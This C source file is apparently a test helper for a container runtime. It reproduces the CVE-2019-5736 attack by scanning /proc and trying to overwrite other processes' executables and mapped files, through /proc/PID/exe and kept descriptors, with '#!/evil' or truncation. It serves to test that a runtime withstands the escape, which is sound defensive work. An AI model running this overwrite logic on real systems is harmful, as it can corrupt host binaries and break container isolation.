// The attacker of CVE-2019-5736: goes through /proc as fast as it can, and tries
// to write to the executable and the mapped files of every other process, at once
// and, by a descriptor that it kept, when that process has ended. It prints what it
// wrote to, and at the end of its input how many executables it saw.
//
// A file of the container's own root may be writable; the test makes that read-only. The program
// that the test executes there is left alone all the same: while a file is being opened for writing,
// be it on a read-only mount, its execve(2) by another fails with ETXTBSY.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdlib.h>

#include "processes.h"

#define KEPT 64
#define OWN "/bin/busybox"

static int kept[KEPT];
static long seen, helpers;

static void attack(const char* path) {
  static char link[4096];
  const ssize_t size = readlink(path, link, sizeof link - 1);
  if (size > 0) {
    link[size] = 0;
    if (strcmp(link, OWN) == 0) return;
    if (strstr(link, "memfd:tsrun") != NULL) helpers++;
  }
  const int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0) return;
  if (pwrite(fd, "#!/evil\n", 8, 0) == 8 || ftruncate(fd, 0) == 0) {
    printf("wrote to %s (%s)\n", path, link);
    fflush(stdout);
  }
  close(fd);
}

// What was kept of a process is tried again as long as it is kept.
static void reopenKept(void) {
  char path[64];
  for (int i = 0; i < KEPT; i++) {
    if (kept[i] < 0) continue;
    snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
    attack(path);
  }
}

static void attackProcess(const char* pid) {
  char path[640];
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  const int fd = open(path, O_PATH | O_CLOEXEC);
  if (fd >= 0) {
    const long slot = seen++ % KEPT;
    if (kept[slot] >= 0) close(kept[slot]);
    kept[slot] = fd;
    attack(path);
  }
  snprintf(path, sizeof path, "/proc/%s/map_files", pid);
  DIR* maps = opendir(path);
  if (maps == NULL) return;
  for (struct dirent* entry; (entry = readdir(maps)) != NULL;) {
    if (entry->d_name[0] == '.') continue;
    snprintf(path, sizeof path, "/proc/%s/map_files/%s", pid, entry->d_name);
    attack(path);
  }
  closedir(maps);
}

int main(void) {
  for (int i = 0; i < KEPT; i++) kept[i] = -1;
  if (write(1, "on\n", 3) != 3) return 1;
  while (goesOn()) {
    if (eachOther(attackProcess) < 0) return 1;
    reopenKept();
  }
  // By now all of them have ended.
  reopenKept();
  printf("seen %ld helpers %ld\n", seen, helpers);
  return 0;
}
